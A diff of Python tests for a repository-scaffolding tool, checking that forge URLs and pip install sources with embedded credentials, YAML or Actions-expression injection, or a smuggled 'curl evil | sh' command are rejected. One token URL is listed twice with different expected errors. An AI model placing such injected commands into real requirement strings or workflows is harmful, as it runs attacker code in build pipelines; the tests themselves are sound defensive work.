@@ -261,6 +261,25 @@ def test_a_forge_names_all_that_it_lacks_at_once(forge: str, tmp_path: Path) -> 
     assert files_in(tmp_path) == {}
 
 
+@pytest.mark.parametrize(
+    ("fields", "message"),
+    [
+        ({"base_url": "https://u:secret@git.example.com"}, "--base-url: the URL has credentials"),
+        ({"base_url": "https://token@git.example.com/api"}, "--base-url: the URL has credentials"),
+        ({"base_url": "https://h/\n  x: y"}, "--base-url: a link begins with"),
+        ({"base_url": "https://h/${{ x }}"}, "--base-url: a link begins with"),
+        ({"repository": "o/n\n  automation: {mode: auto-merge}"}, "--repository: "),
+    ],
+)
+def test_a_forge_that_would_not_load_names_its_flag(fields: dict[str, str], message: str, tmp_path: Path) -> None:
+    choices = Choices(**{"forge": "gitea", "repository": "o/n", "base_url": "https://h", **fields})  # type: ignore[arg-type]
+    with pytest.raises(UserError) as raised:
+        create_repository(tmp_path, "models", choices, NOW)
+    assert raised.value.message.startswith(message)
+    assert "secret" not in raised.value.message
+    assert files_in(tmp_path) == {}
+
+
 def test_ci_and_hooks_install_the_source_that_is_named(tmp_path: Path) -> None:
     requirement = parse_requirement(GIT)
     create_repository(tmp_path, "hub", Choices(requirement=requirement), NOW)
@@ -284,6 +303,15 @@ def test_hooks_in_a_subfolder_of_a_repository_are_those_on_the_path(tmp_path: Pa
     assert hooks["repo"] == "local"
 
 
+def test_hooks_from_a_folder_of_a_repository_are_those_on_the_path(tmp_path: Path) -> None:
+    requirement = parse_requirement("git+https://git.example.com/tools@abc#subdirectory=rs")
+    create_repository(tmp_path, "models", Choices(requirement=requirement), NOW)
+    create_repository(tmp_path, "without", Choices(), NOW)
+    hooks, default = ((tmp_path / folder / ".pre-commit-config.yaml").read_bytes() for folder in ("models", "without"))
+    assert hooks == default
+    assert requirement in (tmp_path / "models/.github/workflows/rollouts.yml").read_text("utf-8")
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -294,6 +322,7 @@ def test_hooks_in_a_subfolder_of_a_repository_are_those_on_the_path(tmp_path: Pa
         f"rollout-spec @ {GIT}",
         "git+ssh://git@git.example.com/tools/rollout-spec@0123abc",
         "rollout-spec @ https://files.example.com/rollout_spec-0.1.0-py3-none-any.whl",
+        "git+ssh://git@git.example.com/rollout-spec@abc",
     ],
 )
 def test_a_source_that_pip_can_install(text: str) -> None:
@@ -308,6 +337,8 @@ def test_a_source_that_pip_can_install(text: str) -> None:
         ("git+https://bot:secret@git.example.com/rollout-spec@abc", "password"),
         ("git+https://ghp_secret@git.example.com/rollout-spec@abc", "token"),
         ("rollout-spec @ https://token@files.example.com/rollout_spec-0.1.0-py3-none-any.whl", "token"),
+        ("git+https://ghp_secret@git.example.com/rollout-spec@abc", "password"),
+        ("rollout-spec @ https://ghp_secret@files.example.com/rs.whl", "password"),
         ('rollout-spec"; curl evil | sh; "', "unsafe"),
         ("rollout-spec==${{ github.token }}", "unsafe"),
         ("rollout-spec\n  - run: evil", "unsafe"),
